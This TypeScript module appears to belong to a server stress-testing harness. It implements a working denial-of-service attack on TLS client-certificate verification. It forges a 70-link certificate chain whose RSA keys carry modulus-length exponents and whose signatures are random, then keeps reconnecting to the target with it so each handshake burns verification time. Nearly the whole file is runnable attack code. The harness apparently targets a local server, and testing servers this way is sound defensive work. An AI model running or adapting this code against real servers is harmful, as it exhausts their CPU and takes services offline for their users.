/**
 * TLS handshakes with a client certificate and 70 others that seem to lead to it: RSA of 3 072 bits with an exponent as
 * long as the modulus, so that each signature takes milliseconds to verify. Nothing of it is valid.
 */
import { generateKeyPairSync, randomBytes } from 'node:crypto';
import { connect } from 'node:tls';
import { connectFrom } from './attack.ts';
import type { Attack } from './attack.ts';
import { bitString, commonName, der, integer, objectId, pem, sequence } from './der.ts';

const LINKS = 70;
const RSA_BYTES = 384;
const AT_ONCE = 2;
const SHA256_WITH_RSA = sequence(objectId('1.2.840.113549.1.1.11'), der(0x05));
const RSA = sequence(objectId('1.2.840.113549.1.1.1'), der(0x05));
const FOR_YEARS = sequence(der(0x17, Buffer.from('250101000000Z')), der(0x17, Buffer.from('400101000000Z')));

/** Odd, and of full length. */
function large(): Buffer {
  const bytes = randomBytes(RSA_BYTES);
  bytes[0] = (bytes[0] ?? 0) | 0x80;
  bytes[RSA_BYTES - 1] = (bytes[RSA_BYTES - 1] ?? 0) | 1;
  return bytes;
}

/** Below the modulus, whose first bits are all set. */
const signature = (): Buffer => bitString(Buffer.concat([Buffer.alloc(1), randomBytes(RSA_BYTES - 1)]));

function certificate(name: string, issuer: string, publicKey: Buffer): Buffer {
  const isCa = der(
    0xa3,
    sequence(
      sequence(
        objectId('2.5.29.19'),
        der(0x01, Buffer.from([0xff])),
        der(0x04, sequence(der(0x01, Buffer.from([0xff])))),
      ),
    ),
  );
  const body = sequence(
    der(0xa0, integer(Buffer.from([2]))),
    integer(randomBytes(15)),
    SHA256_WITH_RSA,
    commonName(issuer),
    FOR_YEARS,
    commonName(name),
    publicKey,
    isCa,
  );
  return sequence(body, SHA256_WITH_RSA, signature());
}

/** A chain of so many links behind a leaf whose key we have, all signed by keys that are slow to verify with. */
export function forgedChain(links = LINKS): { readonly cert: string; readonly key: string } {
  const { publicKey, privateKey } = generateKeyPairSync('ec', { namedCurve: 'P-256' });
  const own = publicKey.export({ type: 'spki', format: 'der' });
  const slow = (): Buffer => sequence(RSA, bitString(sequence(integer(large()), integer(large()))));
  const chain = [pem(certificate('link 0', 'link 1', own))];
  for (let link = 1; link <= links; link++) chain.push(pem(certificate(`link ${link}`, `link ${link + 1}`, slow())));
  return { cert: chain.join(''), key: privateKey.export({ type: 'pkcs8', format: 'pem' }).toString() };
}

export const longChains: Attack = ({ port }) => {
  const counts = { begun: 0, closed: 0 };
  const { cert, key } = forgedChain();
  const options = { cert, key, servername: 'localhost', rejectUnauthorized: false };
  const open = (): void => {
    const socket = connect({ ...options, socket: connectFrom(port) });
    counts.begun += 1;
    socket.on('error', () => undefined);
    socket.once('secureConnect', () => {
      socket.write('GET /federate?page=two HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n');
    });
    socket.resume();
    socket.once('close', () => {
      counts.closed += 1;
      setTimeout(open, 20);
    });
  };
  for (let index = 0; index < AT_ONCE; index++) open();
  return Promise.resolve({ counts: () => counts });
};
